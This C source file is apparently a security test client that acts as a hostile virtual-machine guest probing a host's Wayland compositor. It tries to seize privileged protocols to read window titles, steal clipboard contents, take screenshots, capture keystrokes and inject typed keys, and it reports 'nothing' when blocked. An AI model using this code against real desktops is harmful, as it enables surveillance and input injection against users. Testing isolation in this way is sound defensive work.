/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * What a hostile guest would do to the desktop of its host, one power each:
 *
 *     attack /dev/wl0|SOCKET titles|clipboard|picture|keys|type
 *
 * A client of the compositor by hand, with no bridge before it. It takes the
 * global that it wants if that is announced, and guesses its number if not.
 * What it got stands on standard output, "nothing" if that is nothing.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "virtwl.h"

#define PATIENCE_MS 30000
#define GUESSES 48u
#define MAX_GLOBALS 128

enum { DISPLAY = 1, REGISTRY, FIRST_NEW };

struct global {
    uint32_t name;
    char iface[64];
};

struct event {
    uint32_t object, opcode;
    const uint8_t *body;
    uint32_t size;
};

static const char *place;
static int is_device, wl = -1, conn = -1;
static uint32_t next_id;
static struct global globals[MAX_GLOBALS];
static unsigned int n_globals;
static uint8_t in[65536];
static size_t in_len, in_at;
static int fds[28];
static unsigned int n_fds;

static void die(const char *what)
{
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    exit(2);
}

/* ---- the way to the host ------------------------------------------------ */

static int make(uint32_t type, uint32_t flags, uint32_t size)
{
    struct virtwl_ioctl_new new = {
        .type = type, .fd = -1, .flags = flags, .size = size
    };

    return ioctl(wl, VIRTWL_IOCTL_NEW, &new) < 0 ? -1 : new.fd;
}

static void connect_anew(void)
{
    struct sockaddr_un sun = { .sun_family = AF_UNIX };

    if (conn >= 0) {
        close(conn);
    }
    if (is_device) {
        conn = make(VIRTWL_IOCTL_NEW_CTX, 0, 0);
    } else {
        strncpy(sun.sun_path, place, sizeof sun.sun_path - 1);
        conn = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (connect(conn, (struct sockaddr *)&sun, sizeof sun) < 0) {
            die(place);
        }
    }
    if (conn < 0) {
        die("a context");
    }
    next_id = FIRST_NEW;
    in_len = in_at = 0;
    n_fds = n_globals = 0;
}

static int send_bytes(const void *data, size_t len, int fd)
{
    static struct {
        struct virtwl_ioctl_txn head;
        uint8_t data[4096];
    } txn;
    union {
        struct cmsghdr head;
        char bytes[CMSG_SPACE(sizeof fd)];
    } control = { 0 };
    struct iovec iov = { (void *)(uintptr_t)data, len };
    struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1 };

    if (is_device) {
        memset(txn.head.fds, 0xff, sizeof txn.head.fds);
        txn.head.fds[0] = fd;
        txn.head.len = (uint32_t)len;
        memcpy(txn.head.data, data, len);
        return ioctl(conn, VIRTWL_IOCTL_SEND, &txn);
    }
    if (fd >= 0) {
        msg.msg_control = &control;
        msg.msg_controllen = sizeof control;
        control.head.cmsg_level = SOL_SOCKET;
        control.head.cmsg_type = SCM_RIGHTS;
        control.head.cmsg_len = CMSG_LEN(sizeof fd);
        memcpy(CMSG_DATA(&control.head), &fd, sizeof fd);
    }
    return sendmsg(conn, &msg, MSG_NOSIGNAL) < 0 ? -1 : 0;
}

static ssize_t read_device(void *data, size_t room)
{
    static struct {
        struct virtwl_ioctl_txn head;
        uint8_t data[8192];
    } txn;

    txn.head.len = (uint32_t)(room < sizeof txn.data ? room : sizeof txn.data);
    if (ioctl(conn, VIRTWL_IOCTL_RECV, &txn) < 0) {
        return -1;
    }
    memcpy(data, txn.head.data, txn.head.len);
    for (int i = 0; i < 28 && txn.head.fds[i] >= 0; i++) {
        if (n_fds < 28) {
            fds[n_fds++] = txn.head.fds[i];
        }
    }
    return (ssize_t)txn.head.len;
}

static ssize_t read_socket(void *data, size_t room)
{
    char control[CMSG_SPACE(sizeof fds)];
    struct iovec iov = { data, room };
    struct msghdr msg = { .msg_iov = &iov,
                          .msg_iovlen = 1,
                          .msg_control = control,
                          .msg_controllen = sizeof control };
    ssize_t n = recvmsg(conn, &msg, MSG_CMSG_CLOEXEC);
    struct cmsghdr *cmsg = n > 0 ? CMSG_FIRSTHDR(&msg) : NULL;

    if (cmsg && n_fds < 28) {
        memcpy(&fds[n_fds++], CMSG_DATA(cmsg), sizeof(int));
    }
    return n;
}

/* Memory that the host can be handed. */
static int memory(size_t size, uint8_t **map)
{
    int fd = is_device ? make(VIRTWL_IOCTL_NEW_ALLOC, 0, (uint32_t)size)
                       : memfd_create("attack", MFD_CLOEXEC);

    if (fd < 0 || (!is_device && ftruncate(fd, (off_t)size) < 0)) {
        die("memory");
    }
    *map = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    return *map == MAP_FAILED ? -1 : fd;
}

/* ends[0] is ours, to read. */
static void make_pipe(int ends[2])
{
    if (is_device) {
        ends[0] = make(VIRTWL_IOCTL_NEW_PIPE_READ, 0, 0);
        ends[1] = ends[0];
    } else if (pipe(ends) < 0) {
        ends[0] = -1;
    }
    if (ends[0] < 0) {
        die("a pipe");
    }
}

/* ---- messages ----------------------------------------------------------- */

static uint32_t word(const uint8_t *at)
{
    uint32_t value;

    memcpy(&value, at, sizeof value);
    return value;
}

/* args: u is a uint32_t, s a text; fd -1: none. 0, or -1 if nobody takes it. */
static int say(uint32_t object, uint32_t opcode, int fd, const char *args, ...)
{
    static uint8_t out[4096];
    uint32_t at = 8, value;
    va_list list;

    va_start(list, args);
    for (; *args; args++) {
        if (*args == 's') {
            const char *text = va_arg(list, const char *);

            value = (uint32_t)strlen(text) + 1;
            memcpy(out + at, &value, 4);
            memset(out + at + 4, 0, (value + 3) & ~3u);
            memcpy(out + at + 4, text, value);
            at += 4 + ((value + 3) & ~3u);
        } else {
            value = va_arg(list, uint32_t);
            memcpy(out + at, &value, 4);
            at += 4;
        }
    }
    va_end(list);
    value = at << 16 | opcode;
    memcpy(out, &object, 4);
    memcpy(out + 4, &value, 4);
    return send_bytes(out, at, fd);
}

/* The next event: 1; 0: none in that time; -1: the end, or an error. */
static int hear(struct event *event, int ms)
{
    for (;;) {
        struct pollfd p = { .fd = conn, .events = POLLIN };
        ssize_t n;

        if (in_len - in_at >= 8 &&
            in_len - in_at >= word(in + in_at + 4) >> 16) {
            *event = (struct event){ word(in + in_at),
                                     word(in + in_at + 4) & 0xffff,
                                     in + in_at + 8,
                                     word(in + in_at + 4) >> 16 };
            in_at += event->size;
            return event->object == DISPLAY && event->opcode == 0 ? -1 : 1;
        }
        memmove(in, in + in_at, in_len - in_at);
        in_len -= in_at;
        in_at = 0;
        if (poll(&p, 1, ms) == 0) {
            return 0;
        }
        n = is_device ? read_device(in + in_len, sizeof in - in_len)
                      : read_socket(in + in_len, sizeof in - in_len);
        if (n <= 0) {
            return -1;
        }
        in_len += (size_t)n;
    }
}

/* Whether the connection lives; each event on the way goes to `on`. */
static int round_trip(void (*on)(const struct event *event))
{
    uint32_t callback = next_id++;
    struct event event;

    say(DISPLAY, 0, -1, "u", callback);
    while (hear(&event, PATIENCE_MS) == 1) {
        if (event.object == callback) {
            return 1;
        }
        if (on) {
            on(&event);
        }
    }
    return 0;
}

static void on_global(const struct event *event)
{
    if (event->object == REGISTRY && event->opcode == 0 &&
        n_globals < MAX_GLOBALS) {
        globals[n_globals].name = word(event->body);
        strncpy(globals[n_globals].iface, (const char *)event->body + 8, 63);
        n_globals++;
    }
}

static void begin(void)
{
    connect_anew();
    say(DISPLAY, 1, -1, "u", (uint32_t)REGISTRY);
    if (!round_trip(on_global)) {
        die("no registry");
    }
}

static uint32_t announced(const char *iface)
{
    for (unsigned int i = 0; i < n_globals; i++) {
        if (strcmp(globals[i].iface, iface) == 0) {
            return globals[i].name;
        }
    }
    return 0;
}

static uint32_t try_bind(uint32_t name, const char *iface)
{
    uint32_t id = next_id++;

    say(REGISTRY, 0, -1, "usuu", name, iface, 1u, id);
    return round_trip(NULL) ? id : 0;
}

static void finish(const char *what)
{
    puts(what);
    exit(0);
}

/* Version 1 of it; ends the program if it is not to be had. */
static uint32_t seize(const char *iface)
{
    uint32_t name, id;

    begin();
    name = announced(iface);
    printf("%s is %sannounced\n", iface, name ? "" : "not ");
    if (name) {
        id = try_bind(name, iface);
        if (id) {
            return id;
        }
        finish("nothing");
    }
    for (name = 1; name <= GUESSES; name++) {
        begin();
        id = try_bind(name, iface);
        if (id) {
            printf("number %u was guessed\n", name);
            return id;
        }
    }
    finish("nothing");
    return 0;
}

static uint32_t usual(const char *iface)
{
    uint32_t name = announced(iface), id = name ? try_bind(name, iface) : 0;

    if (!id) {
        die(iface);
    }
    return id;
}

/* ---- the powers --------------------------------------------------------- */

static void on_title(const struct event *event)
{
    /* of the handles that the manager made: title is 0, app_id is 1 */
    if (event->object >= 0xff000000 && event->opcode <= 1) {
        printf("%s: %s\n", event->opcode ? "app id" : "title",
               (const char *)event->body + 4);
    }
}

static void titles(void)
{
    uint32_t id = next_id;

    seize("zwlr_foreign_toplevel_manager_v1");
    /* what it was told came with the answer to the bind */
    begin();
    id = next_id++;
    say(REGISTRY, 0, -1, "usuu", announced("zwlr_foreign_toplevel_manager_v1"),
        "zwlr_foreign_toplevel_manager_v1", 1u, id);
    round_trip(on_title);
}

static uint32_t offer;

static void on_selection(const struct event *event)
{
    if (event->object < 0xff000000 && event->opcode == 1 && event->size == 12) {
        offer = word(event->body);
    }
}

static void clipboard(void)
{
    uint32_t manager = seize("zwlr_data_control_manager_v1");
    uint32_t seat = usual("wl_seat"), device = next_id++;
    char text[256];
    int ends[2];
    ssize_t n;

    say(manager, 1, -1, "uu", device, seat);
    round_trip(on_selection);
    if (!offer) {
        finish("nothing");
    }
    make_pipe(ends);
    say(offer, 0, ends[1], "s", "text/plain");
    if (ends[1] != ends[0]) {
        close(ends[1]);
    }
    n = read(ends[0], text, sizeof text - 1);
    printf("clipboard: %.*s\n", n > 0 ? (int)n : 0, text);
}

static uint32_t width, height, stride, format;
static int frame_state;

static void on_frame(const struct event *event)
{
    if (event->object >= 0xff000000) {
        return;
    }
    if (event->opcode == 0 && event->size == 24) {
        format = word(event->body);
        width = word(event->body + 4);
        height = word(event->body + 8);
        stride = word(event->body + 12);
    } else if (event->opcode == 2 && event->size == 20) {
        frame_state = 1;
    } else if (event->opcode == 3 && event->size == 8) {
        frame_state = -1;
    }
}

static void picture(void)
{
    uint32_t manager = seize("zwlr_screencopy_manager_v1");
    uint32_t output = usual("wl_output"), shm = usual("wl_shm");
    uint32_t frame = next_id++, pool, buffer;
    unsigned int lit = 0;
    uint8_t *map;
    int fd;

    say(manager, 0, -1, "uuu", frame, 0u, output);
    round_trip(on_frame);
    if (!width) {
        finish("nothing");
    }
    fd = memory((size_t)stride * height, &map);
    pool = next_id++;
    buffer = next_id++;
    say(shm, 0, fd, "uu", pool, stride * height);
    say(pool, 0, -1, "uuuuuu", buffer, 0u, width, height, stride, format);
    say(frame, 0, -1, "u", buffer);
    while (!frame_state && round_trip(on_frame)) {
        usleep(10000);
    }
    for (size_t i = 0; frame_state > 0 && i + 4 <= (size_t)stride * height;
         i += 4) {
        lit += (word(map + i) & 0xffffff) != 0;
    }
    printf("picture: %ux%u, %u pixels are not black\n", width, height, lit);
}

/* Until a key comes; the caller's user types one. */
static void keys(void)
{
    uint32_t manager = seize("zwp_input_method_manager_v2");
    uint32_t seat = usual("wl_seat"), method = next_id++, grab = next_id++;
    struct event event;

    say(manager, 0, -1, "uu", seat, method);
    say(method, 5, -1, "u", grab);
    puts("listening");
    fflush(stdout);
    while (hear(&event, PATIENCE_MS) == 1) {
        if (event.object == grab && event.opcode == 1) {
            printf("key: %u\n", word(event.body + 8));
            return;
        }
    }
    puts("nothing");
}

static void type(void)
{
    static const char keymap[] =
        "xkb_keymap { xkb_keycodes \"k\" { minimum = 8; maximum = 11; "
        "<K1> = 9; <K2> = 10; }; "
        "xkb_types \"k\" { include \"complete\" }; "
        "xkb_compatibility \"k\" { include \"complete\" }; "
        "xkb_symbols \"k\" { key <K1> {[a]}; key <K2> {[Return]}; }; };";
    uint32_t manager = seize("zwp_virtual_keyboard_manager_v1");
    uint32_t seat = usual("wl_seat"), keyboard = next_id++;
    uint8_t *map;
    int fd = memory(4096, &map);

    memcpy(map, keymap, sizeof keymap);
    say(manager, 0, -1, "uu", seat, keyboard);
    say(keyboard, 0, fd, "uu", 1u, (uint32_t)sizeof keymap);
    for (uint32_t key = 1; key <= 2; key++) {
        say(keyboard, 1, -1, "uuu", key * 10, key, 1u);
        say(keyboard, 1, -1, "uuu", key * 10 + 5, key, 0u);
    }
    puts(round_trip(NULL) ? "typed" : "nothing");
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        void (*attack)(void);
    } powers[] = {
        { "titles", titles },   { "clipboard", clipboard },
        { "picture", picture }, { "keys", keys },
        { "type", type },
    };

    place = argc == 3 ? argv[1] : "";
    is_device = strncmp(place, "/dev/", 5) == 0;
    if (is_device && (wl = open(place, O_RDWR | O_CLOEXEC)) < 0) {
        die(place);
    }
    for (unsigned int i = 0; argc == 3 && i < 5; i++) {
        if (strcmp(argv[2], powers[i].name) == 0) {
            powers[i].attack();
            return 0;
        }
    }
    fprintf(stderr, "attack PLACE titles|clipboard|picture|keys|type\n");
    return 2;
}
